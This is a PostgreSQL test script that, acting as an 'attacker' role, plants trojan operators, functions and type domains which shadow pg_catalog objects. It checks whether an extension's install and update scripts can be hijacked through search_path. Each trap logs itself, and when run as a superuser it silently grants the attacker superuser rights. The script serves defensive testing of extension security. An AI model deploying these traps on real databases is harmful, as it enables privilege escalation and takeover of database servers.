/*
 * test/hostile_schema/plant.sql: what a hostile role plants before an
 * administrator installs or updates url_shortener.  Run by
 * test/hostile_schema/run as the role "attacker", which may CREATE in the
 * schemas named by :'targets' (the extension's schema and public).
 *
 * Every planted object is a trap: when it runs it records itself in
 * lair.sprung and, if it runs as a superuser, makes the attacker one.  The
 * traps cover, systematically rather than by guessing:
 *   - operators: every operator name an extension script is likely to use,
 *     for every pair of argument types from a list of the types those
 *     scripts handle, wherever pg_catalog can evaluate that pair; a trap
 *     for a pair pg_catalog has no exact operator for (oid = integer,
 *     text[] || text, oid = regprocedure) is preferred by the parser over
 *     pg_catalog's, which needs a coercion.  The trap then returns what
 *     pg_catalog's operator would, so a hijacked script runs on unaware;
 *   - functions: every function named in the scripts (function_names),
 *     with each pg_catalog signature and with each argument in turn
 *     replaced by another type (an exact match for a call whose argument
 *     type differs from pg_catalog's);
 *   - types: a domain named like each type the scripts use, which an
 *     unqualified type name would pick if pg_catalog were not searched
 *     first.
 */
\set ON_ERROR_STOP 1
SET client_min_messages = warning;
-- psql does not expand variables inside the dollar-quoted block below
SELECT pg_catalog.set_config('hostile.targets', :'targets', false) AS targets_set,
       pg_catalog.set_config('hostile.function_names', :'function_names', false) AS function_names_set \gset

-- The log and the payload, in the attacker's own schema.
CREATE TABLE lair.sprung (trap text NOT NULL, run_by name NOT NULL);
GRANT INSERT ON lair.sprung TO PUBLIC;

CREATE FUNCTION lair.spring(trap text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
    -- Logged twice: in the table, and as a warning, which a caller sees
    -- even when its transaction is then rolled back (a refused update).
    RAISE WARNING 'sprung: % run by %', trap, current_user;
    INSERT INTO lair.sprung VALUES (trap, current_user);
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        ALTER ROLE attacker SUPERUSER;
    END IF;
END
$$;
GRANT EXECUTE ON FUNCTION lair.spring(text) TO PUBLIC;

DO $plant$
DECLARE
    targets text[] := pg_catalog.string_to_array(pg_catalog.current_setting('hostile.targets'), ',');
    function_names text[] := pg_catalog.string_to_array(pg_catalog.current_setting('hostile.function_names'), ',');
    operators text[] := ARRAY['=', '<>', '<', '<=', '>', '>=', '+', '-', '*', '/', '%', '^',
                              '||', '~~', '!~~', '~', '!~', '@>', '<@', '&&'];
    types text[] := ARRAY['pg_catalog.oid', 'pg_catalog.int2', 'pg_catalog.int4', 'pg_catalog.int8',
                          'pg_catalog.numeric', 'pg_catalog.float8', 'pg_catalog.text',
                          'pg_catalog.varchar', 'pg_catalog.name', 'pg_catalog.bool',
                          'pg_catalog."char"', 'pg_catalog.bytea', 'pg_catalog.timestamptz',
                          'pg_catalog.interval', 'pg_catalog.uuid', 'pg_catalog.jsonb',
                          'pg_catalog.regproc', 'pg_catalog.regprocedure', 'pg_catalog.regclass',
                          'pg_catalog.regrole', 'pg_catalog.regnamespace', 'pg_catalog.regtype',
                          'pg_catalog.aclitem', 'pg_catalog.text[]', 'pg_catalog.name[]',
                          'pg_catalog.oid[]', 'pg_catalog.int4[]', 'pg_catalog.aclitem[]',
                          'pg_catalog.bytea[]'];
    shadowed_types text[] := ARRAY['text', 'varchar', 'name', 'oid', 'bytea', 'timestamptz',
                                   'timestamp', 'interval', 'uuid', 'jsonb', 'regproc',
                                   'regprocedure', 'regclass', 'regrole', 'regnamespace',
                                   'regtype', 'aclitem', 'int2', 'int4', 'int8', 'float8',
                                   'numeric', 'bool', 'record'];
    target text;
    op text;
    l text;
    r text;
    result_type text;
    f record;
    args text[];
    i int;
    t text;
    n int := 0;
BEGIN
    FOREACH target IN ARRAY targets LOOP
        -- Operators.
        FOREACH op IN ARRAY operators LOOP
            FOREACH l IN ARRAY types LOOP
                FOREACH r IN ARRAY types LOOP
                    BEGIN
                        EXECUTE pg_catalog.format(
                            'SELECT pg_catalog.format_type(pg_catalog.pg_typeof(NULL::%s OPERATOR(pg_catalog.%s) NULL::%s)::pg_catalog.oid, NULL)',
                            l, op, r) INTO result_type;
                    EXCEPTION WHEN OTHERS THEN
                        CONTINUE;   -- pg_catalog cannot evaluate this pair
                    END;
                    n := n OPERATOR(pg_catalog.+) 1;
                    EXECUTE pg_catalog.format($f$
                        CREATE FUNCTION %1$I.trap_operator_%2$s(a %3$s, b %4$s) RETURNS %5$s
                        LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
                        AS $body$
                        BEGIN
                            PERFORM lair.spring(%6$L);
                            RETURN a OPERATOR(pg_catalog.%7$s) b;
                        END
                        $body$;
                        CREATE OPERATOR %1$I.%7$s (LEFTARG = %3$s, RIGHTARG = %4$s,
                                                   FUNCTION = %1$I.trap_operator_%2$s)$f$,
                        target, n, l, r, result_type,
                        pg_catalog.format('operator %s.%s(%s, %s)', target, op, l, r), op);
                END LOOP;
            END LOOP;
        END LOOP;

        -- Prefix operators: - and @ on the numeric types.
        FOREACH op IN ARRAY ARRAY['-', '@'] LOOP
            FOREACH r IN ARRAY ARRAY['pg_catalog.int2', 'pg_catalog.int4', 'pg_catalog.int8',
                                     'pg_catalog.numeric', 'pg_catalog.float8', 'pg_catalog.interval'] LOOP
                BEGIN
                    EXECUTE pg_catalog.format(
                        'SELECT pg_catalog.format_type(pg_catalog.pg_typeof(OPERATOR(pg_catalog.%s) NULL::%s)::pg_catalog.oid, NULL)',
                        op, r) INTO result_type;
                EXCEPTION WHEN OTHERS THEN
                    CONTINUE;
                END;
                n := n OPERATOR(pg_catalog.+) 1;
                EXECUTE pg_catalog.format($f$
                    CREATE FUNCTION %1$I.trap_operator_%2$s(b %4$s) RETURNS %5$s
                    LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
                    AS $body$
                    BEGIN
                        PERFORM lair.spring(%6$L);
                        RETURN OPERATOR(pg_catalog.%7$s) b;
                    END
                    $body$;
                    CREATE OPERATOR %1$I.%7$s (RIGHTARG = %4$s, FUNCTION = %1$I.trap_operator_%2$s)$f$,
                    target, n, NULL, r, result_type,
                    pg_catalog.format('operator %s.%s(none, %s)', target, op, r), op);
            END LOOP;
        END LOOP;

        -- Functions named in the scripts: each pg_catalog signature, and each
        -- with one argument replaced by another type.  The trap returns NULL:
        -- whatever the script then does, the trap has already sprung.
        FOR f IN
            SELECT p.proname::pg_catalog.text AS name, p.proargtypes, p.prorettype, p.proretset
            FROM pg_catalog.pg_proc p
            WHERE p.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::pg_catalog.regnamespace
              AND p.prokind OPERATOR(pg_catalog.=) 'f'
              AND p.proname::pg_catalog.text OPERATOR(pg_catalog.=) ANY (function_names)
              AND NOT EXISTS (SELECT FROM pg_catalog.unnest(p.proargtypes::pg_catalog.oid[]) a(t)
                              JOIN pg_catalog.pg_type ty ON ty.oid OPERATOR(pg_catalog.=) a.t
                              WHERE ty.typtype OPERATOR(pg_catalog.=) 'p')
              AND (SELECT ty.typtype FROM pg_catalog.pg_type ty
                   WHERE ty.oid OPERATOR(pg_catalog.=) p.prorettype) OPERATOR(pg_catalog.<>) 'p'
        LOOP
            SELECT pg_catalog.array_agg(pg_catalog.format_type(a.t, NULL) ORDER BY a.ord)
            INTO args
            FROM pg_catalog.unnest(f.proargtypes::pg_catalog.oid[]) WITH ORDINALITY a(t, ord);
            args := COALESCE(args, '{}');   -- a grammar construct, not a function
            FOR i IN 0 .. pg_catalog.cardinality(args) LOOP
                FOREACH t IN ARRAY CASE WHEN i OPERATOR(pg_catalog.=) 0 THEN ARRAY['same'] ELSE types END LOOP
                    IF i OPERATOR(pg_catalog.>) 0 THEN
                        args[i] := t;
                    END IF;
                    BEGIN
                        EXECUTE pg_catalog.format($f$
                            CREATE FUNCTION %1$I.%2$I(%3$s) RETURNS %4$s %5$s
                            LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
                            AS $body$
                            BEGIN
                                PERFORM lair.spring(%6$L);
                                RETURN%7$s;
                            END
                            $body$$f$,
                            target, f.name, pg_catalog.array_to_string(args, ', '),
                            CASE WHEN f.proretset THEN 'SETOF ' ELSE '' END,
                            pg_catalog.format_type(f.prorettype, NULL),
                            pg_catalog.format('function %s.%s(%s)', target, f.name,
                                              pg_catalog.array_to_string(args, ', ')),
                            CASE WHEN f.proretset OR f.prorettype OPERATOR(pg_catalog.=) 'pg_catalog.void'::pg_catalog.regtype::pg_catalog.oid
                                 THEN '' ELSE ' NULL' END);
                    EXCEPTION WHEN duplicate_function THEN
                        NULL;
                    END;
                END LOOP;
                -- put the original argument back
                IF i OPERATOR(pg_catalog.>) 0 THEN
                    args[i] := pg_catalog.format_type(f.proargtypes[i OPERATOR(pg_catalog.-) 1], NULL);
                END IF;
            END LOOP;
        END LOOP;

        -- Types: a domain named like each type an unqualified name could mean.
        FOREACH t IN ARRAY shadowed_types LOOP
            BEGIN
                EXECUTE pg_catalog.format('CREATE DOMAIN %I.%I AS pg_catalog.text', target, t);
            EXCEPTION WHEN duplicate_object THEN
                NULL;
            END;
        END LOOP;
    END LOOP;
END
$plant$;

SELECT pg_catalog.count(*) AS planted_operators FROM pg_catalog.pg_operator o
WHERE o.oprowner OPERATOR(pg_catalog.=) 'attacker'::pg_catalog.regrole \gset
SELECT pg_catalog.count(*) AS planted_functions FROM pg_catalog.pg_proc p
WHERE p.proowner OPERATOR(pg_catalog.=) 'attacker'::pg_catalog.regrole \gset
\echo planted :planted_operators operators and :planted_functions functions
